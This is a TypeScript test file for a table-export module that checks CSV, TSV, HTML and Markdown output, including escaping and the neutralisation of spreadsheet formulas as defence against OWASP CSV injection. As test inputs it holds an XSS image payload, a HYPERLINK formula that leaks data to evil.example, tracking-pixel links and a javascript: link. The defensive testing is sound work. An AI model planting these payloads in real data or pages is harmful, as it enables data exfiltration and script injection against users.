import { describe, expect, it } from 'vitest';
import { col } from '../testing/v2-factories';
import { decodeTable } from '../testing/test-tables';
import {
  csvBlob, csvChunks, csvField, htmlTable, htmlText, markdownTable, markdownText, neutralizeFormula, rangeToTsv, tableToTsv, tsvField,
} from './table-export';
import { buildColumn } from './columnar';
import type { ColumnarTable } from './types';

const table = decodeTable(
  [col('Name', 'string'), col('Big', 'long'), col('R', 'real'), col('When', 'datetime'), col('Bag', 'dynamic')],
  [
    ['plain', 9223372036854775807n, 'NaN', '2007-01-01T00:00:00Z', { a: [1, 2] }],
    ['has "quotes", comma', null, 1.5, '2007-01-01T00:00:00.1234567Z', null],
    ['two\nlines\tand tab', -1, '-Infinity', null, 'text'],
  ],
);

function wireTable(columns: [string, string][], rows: unknown[][]): ColumnarTable {
  const wire = columns.map(([ColumnName, ColumnType]) => ({ ColumnName, ColumnType }));
  return { tableId: 0, tableKind: 'PrimaryResult', tableName: 'PrimaryResult', rowCount: rows.length, columns: wire.map((c, i) => buildColumn(c, i, rows, false)) };
}

const hostile = wireTable([['State', 'string'], ['n', 'long']], [['<img src=x onerror=alert(1)>', 1], ['A|B\nC', 9007199254740993n.toString()]]);

describe('csvField / tsvField', () => {
  it('quotes per RFC 4180 only when needed and doubles quotes', () => {
    expect(csvField('abc')).toBe('abc');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\r\nb')).toBe('"a\r\nb"');
    expect(csvField('tab\tok')).toBe('tab\tok');
  });

  it('quotes TSV fields holding tabs, newlines or quotes', () => {
    expect(tsvField('a,b')).toBe('a,b');
    expect(tsvField('a\tb')).toBe('"a\tb"');
    expect(tsvField('a\nb')).toBe('"a\nb"');
  });
});

describe('csvChunks', () => {
  it('writes a header and one CRLF line per row with Kusto text for each type', () => {
    const csv = [...csvChunks(table)].join('');
    expect(csv).toBe(
      'Name,Big,R,When,Bag\r\n' +
      'plain,9223372036854775807,NaN,2007-01-01T00:00:00Z,"{""a"":[1,2]}"\r\n' +
      '"has ""quotes"", comma",,1.5,2007-01-01T00:00:00.1234567Z,\r\n' +
      '"two\nlines\tand tab",-1,-Infinity,,text\r\n',
    );
  });

  it('splits into chunks on line boundaries and follows the given row order', () => {
    const chunks = [...csvChunks(table, Uint32Array.from([2, 0]), 'neutralize', 10)];
    expect(chunks).toEqual(['Name,Big,R,When,Bag\r\n', '"two\nlines\tand tab",-1,-Infinity,,text\r\n', 'plain,9223372036854775807,NaN,2007-01-01T00:00:00Z,"{""a"":[1,2]}"\r\n']);
  });

  it('builds a 500,000-row file from bounded parts', async () => {
    const rows = 500_000;
    const big = {
      ...table,
      rowCount: rows,
      columns: [{ name: 'i', declaredType: 'long', type: 'long' as const, values: BigInt64Array.from({ length: rows }, (_, i) => BigInt(i + 1)), nulls: new Uint8Array(rows / 8) }],
    };
    let parts = 0;
    let longest = 0;
    for (const chunk of csvChunks(big)) {
      parts++;
      longest = Math.max(longest, chunk.length);
    }
    expect(parts).toBeGreaterThan(2);
    expect(longest).toBeLessThan((1 << 20) + 64);
    let yields = 0;
    const blob = await csvBlob(big, null, 'neutralize', async () => void yields++);
    expect(yields).toBe(parts);
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect(Array.from(bytes.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    const text = await blob.text();
    expect(text.startsWith('i\r\n1\r\n')).toBe(true);
    expect(text.endsWith('\r\n500000\r\n')).toBe(true);
  });
});

describe('rangeToTsv', () => {
  it('copies a rectangle in display order, optionally with headers', () => {
    expect(rangeToTsv(table, Uint32Array.from([2, 1, 0]), { column: 1, columns: 2, row: 1, rows: 2 })).toBe('\t1.5\r\n9223372036854775807\tNaN');
    expect(rangeToTsv(table, null, { column: 0, columns: 1, row: 2, rows: 5 }, true)).toBe('Name\r\n"two\nlines\tand tab"');
  });
});

describe('HTML and Markdown tables', () => {
  it('escapes cell text in the HTML table', () => {
    const html = htmlTable(hostile);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).not.toContain('<img');
    expect(html).toContain('<th style="border:1px solid #ccc;padding:2px 6px">State</th>');
    expect(htmlText(`'&"`)).toBe('&#39;&amp;&quot;');
  });

  it('escapes pipes, newlines and HTML in Markdown cells and right-aligns numbers', () => {
    expect(markdownTable(hostile)).toBe(
      ['| State | n |', '| --- | --: |', '| \\<img src=x onerror=alert(1)\\> | 1 |', '| A\\|B<br>C | 9007199254740993 |'].join('\n'),
    );
    expect(markdownText('a\\b')).toBe('a\\\\b');
  });

  it('every format writes the same cell text (the grid\'s) in the given row order, and stops at maxRows', () => {
    const order = Uint32Array.from([1, 0]);
    expect(markdownTable(table, order, 1).split('\n')[2]).toBe('| has "quotes", comma |  | 1.5 | 2007-01-01T00:00:00.1234567Z |  |');
    expect(rangeToTsv(table, order, { column: 3, columns: 1, row: 0, rows: 2 })).toBe('2007-01-01T00:00:00.1234567Z\r\n2007-01-01T00:00:00Z');
    expect([...csvChunks(table, order)].join('').split('\r\n')[2]).toBe('plain,9223372036854775807,NaN,2007-01-01T00:00:00Z,"{""a"":[1,2]}"');
    expect(htmlTable(table, order, 1).match(/<tr>/g)).toHaveLength(2);
  });
});

describe('spreadsheet formulas in CSV and TSV (OWASP CSV injection)', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?leak","x")', '+SUM(1,1)', '@SUM(1,1)', '-2+3', '\tlead tab', '\rlead CR',
    '\uFF1DSUM(1,1)', '\uFF0BSUM(1,1)', '\uFF0D2+3', '\uFF20SUM(1,1)',
  ];
  const cells = wireTable([['=Name', 'string'], ['Bag', 'dynamic'], ['n', 'long'], ['r', 'real']], [
    ...attacks.map((a) => [a, null, 1, 1.5]),
    ['plain', '=1+1', -2, -0.5],
  ]);

  it.each(attacks)('puts a quote before %j', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it('leaves text that starts otherwise alone', () => {
    for (const text of ['plain', "'=already quoted", ' =1', '1-2', '', 'a=b']) expect(neutralizeFormula(text)).toBe(text);
  });

  it('neutralises string and dynamic cells and column names in CSV, but not numbers of numeric columns', () => {
    const lines = [...csvChunks(cells)].join('').split('\r\n');
    expect(lines[0]).toBe("'=Name,Bag,n,r");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak"",""x"")",,1,1.5`);
    expect(lines[2]).toBe(`"'+SUM(1,1)",,1,1.5`);
    expect(lines[4]).toBe("'-2+3,,1,1.5");
    expect(lines[5]).toBe("'\tlead tab,,1,1.5");
    expect(lines[6]).toBe('"\'\rlead CR",,1,1.5');
    expect(lines[7]).toBe(`"'\uFF1DSUM(1,1)",,1,1.5`);
    expect(lines[11]).toBe("plain,'=1+1,-2,-0.5");
  });

  it('neutralises the same cells in TSV copies', () => {
    const tsv = tableToTsv(cells, null).split('\r\n');
    expect(tsv[0]).toBe("'=Name\tBag\tn\tr");
    expect(tsv[3]).toBe("'@SUM(1,1)\t\t1\t1.5");
    expect(tsv[5]).toBe('"\'\tlead tab"\t\t1\t1.5');
    expect(tsv[11]).toBe("plain\t'=1+1\t-2\t-0.5");
  });

  it('writes raw values, formulas included, when the user asks for them', () => {
    expect([...csvChunks(cells, null, 'raw')].join('').split('\r\n')[2]).toBe('"+SUM(1,1)",,1,1.5');
    expect(tableToTsv(cells, null, undefined, 'raw').split('\r\n')[0]).toBe('=Name\tBag\tn\tr');
    expect(rangeToTsv(cells, null, { column: 0, columns: 1, row: 3, rows: 1 }, false, 'raw')).toBe('-2+3');
  });
});

describe('Markdown active characters', () => {
  it.each([
    ['<img src="http://evil.example/p.png">', '\\<img src="http://evil.example/p.png"\\>'],
    ['[x](javascript:alert(1))', '\\[x\\](javascript:alert(1))'],
    ['![t](https://evil.example/track.gif)', '\\!\\[t\\](https://evil.example/track.gif)'],
    ['<https://evil.example>', '\\<https://evil.example\\>'],
    ['&lt;b&gt;', '\\&lt;b\\&gt;'],
    ['*bold* _it_ ~~gone~~ `code` $x$', '\\*bold\\* \\_it\\_ \\~\\~gone\\~\\~ \\`code\\` \\$x\\$'],
    ['a|b', 'a\\|b'],
    ['one\r\ntwo\rthree\nfour', 'one<br>two<br>three<br>four'],
  ])('escapes %j', (text, escaped) => {
    expect(markdownText(text)).toBe(escaped);
  });

  it('escapes column names too', () => {
    const named = wireTable([['![x](http://e/)', 'string']], [['v']]);
    expect(markdownTable(named).split('\n')[0]).toBe('| \\!\\[x\\](http://e/) |');
  });
});
